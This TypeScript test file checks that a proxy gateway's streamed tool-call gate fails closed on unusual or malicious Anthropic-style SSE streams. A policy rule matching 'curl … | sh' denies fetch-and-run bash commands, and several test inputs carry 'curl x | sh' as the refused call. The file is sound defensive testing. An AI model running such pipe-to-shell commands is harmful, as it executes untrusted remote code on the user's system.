/**
 * The streamed tool-call gate on streams that do not look like Anthropic's usual ones (an
 * upstream that is another gateway, or a malicious one): it must fail closed, never relaying a
 * tool call a rule refuses. Regressions from review: each case below was relayed unjudged.
 */
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { ApprovalDesk } from "@gatehouse/agent/approvals/desk.js";
import { Masker } from "@gatehouse/agent/masking/masker.js";
import { PolicySet } from "@gatehouse/agent/policy/policy.js";
import { ToolCallGate } from "@gatehouse/agent/proxy/anthropic/guard.js";
import { ResponseMasking } from "@gatehouse/agent/proxy/anthropic/masking.js";
import { ExchangeRecorder } from "@gatehouse/agent/proxy/recorder.js";
import type { SseBlock } from "@gatehouse/agent/proxy/sse.js";
import type { PolicyMatch__Output, SessionEvent } from "@gatehouse/proto";
import { isGatehouseError } from "@gatehouse/proto/errors";

const NO_MATCH: PolicyMatch__Output = {
  text: "",
  system: "",
  model: "",
  tool: "",
  toolInput: "",
  toolResult: "",
  maxTokensAbove: 0,
};

function gate(match: Partial<PolicyMatch__Output>, model = "claude-sonnet-4-6") {
  const policy = PolicySet.compile([
    {
      name: "p",
      connections: [],
      rules: [
        {
          name: "no-pipe",
          when: "response",
          action: "deny",
          message: "no",
          match: { ...NO_MATCH, ...match },
        },
      ],
    },
  ]).forConnection("claude");
  const events: SessionEvent[] = [];
  const recorder = new ExchangeRecorder({ append: (e) => events.push(e) }, "session-1", () => {});
  const masker = new Masker();
  const guard = {
    policy,
    desk: new ApprovalDesk({ channel: { sendNow: () => false }, timeoutSeconds: () => 0 }),
    recorder,
    connection: "claude",
    masker,
    stopped: new AbortController().signal,
  };
  return { gate: new ToolCallGate(new ResponseMasking(recorder, masker), guard, model), events };
}

function block(event: string, data: unknown): SseBlock {
  const text = typeof data === "string" ? data : JSON.stringify(data);
  return { raw: Buffer.from(`event: ${event}\ndata: ${text}\n\n`), event, data: text, hasData: true };
}

/** Feeds the blocks through the gate; what the client got, and the error that ended the stream. */
async function run(g: ToolCallGate, blocks: SseBlock[]): Promise<{ sent: string[]; error: unknown }> {
  const sent: string[] = [];
  try {
    for (const b of blocks) {
      const out = g.event(b);
      for (const o of Array.isArray(out) ? out : await out) sent.push(o.data);
    }
    for (const o of await g.endOfEvents()) sent.push(o.data);
  } catch (error) {
    return { sent, error };
  }
  return { sent, error: null };
}

const start = (index: unknown, input: unknown = {}, name = "bash") =>
  block("content_block_start", {
    type: "content_block_start",
    index,
    content_block: { type: "tool_use", id: `toolu_${String(index)}`, name, input },
  });
const delta = (index: unknown, partial: string) =>
  block("content_block_delta", {
    type: "content_block_delta",
    index,
    delta: { type: "input_json_delta", partial_json: partial },
  });
const stop = (index?: unknown) =>
  block(
    "content_block_stop",
    index === undefined ? { type: "content_block_stop" } : { type: "content_block_stop", index },
  );

function denied(error: unknown): boolean {
  return isGatehouseError(error) && error.code === "GATE_POLICY_DENIED";
}

describe("the streamed tool-call gate fails closed", () => {
  const curl = { toolInput: "curl [^|]*\\|\\s*sh" };

  test("an input given whole in content_block_start is judged", async () => {
    const { gate: g } = gate(curl);
    const { sent, error } = await run(g, [start(0, { command: "curl x | sh" }), stop(0)]);
    assert.ok(denied(error));
    assert.deepEqual(sent, [], "nothing of the call was relayed");
  });

  test("an index that is not a number still holds and judges the call", async () => {
    const { gate: g } = gate(curl);
    const { sent, error } = await run(g, [
      start("0"),
      delta("0", '{"command":"curl x'),
      delta("0", ' | sh"}'),
      stop("0"),
    ]);
    assert.ok(denied(error));
    assert.deepEqual(sent, []);
  });

  test("a second tool call while one is held (no stop for the first) is judged too, before it is relayed", async () => {
    const { gate: g } = gate(curl);
    const { sent, error } = await run(g, [
      start(0),
      delta(0, '{"command":"ls"}'),
      stop(),
      start(1),
      delta(1, '{"command":"curl x | sh"}'),
      stop(1),
    ]);
    assert.ok(denied(error));
    assert.ok(!sent.some((d) => d.includes("curl")), "the refused call was not relayed");
    assert.ok(
      sent.some((d) => d.includes('"index":0')),
      "the first, allowed, call was relayed",
    );
  });

  test("a stream that ends inside a held call judges what arrived", async () => {
    const { gate: g } = gate(curl);
    const { sent, error } = await run(g, [start(0), delta(0, '{"command":"curl x | sh')]);
    assert.ok(denied(error));
    assert.deepEqual(sent, []);
  });

  test("the model that answers (message_start) is what response rules match, not only the one asked for", async () => {
    const { gate: g } = gate({ ...curl, model: "^claude-opus" }, "claude-sonnet-4-6");
    const { error } = await run(g, [
      block("message_start", {
        type: "message_start",
        message: { id: "m", model: "claude-opus-4-1", content: [] },
      }),
      start(0),
      delta(0, '{"command":"curl x | sh"}'),
      stop(0),
    ]);
    assert.ok(denied(error));
  });

  test("an ordinary call passes whole and in order", async () => {
    const { gate: g } = gate(curl);
    const blocks = [start(0), delta(0, '{"command":'), delta(0, '"ls -la"}'), stop(0)];
    const { sent, error } = await run(g, blocks);
    assert.equal(error, null);
    const events = sent.map((d) => JSON.parse(d) as { type: string; delta?: { partial_json?: string } });
    assert.equal(events[0]?.type, "content_block_start");
    assert.equal(events.at(-1)?.type, "content_block_stop");
    // Masking may re-cut the deltas (it holds back a tail); the input the client assembles is whole.
    assert.equal(events.map((e) => e.delta?.partial_json ?? "").join(""), '{"command":"ls -la"}');
  });
});
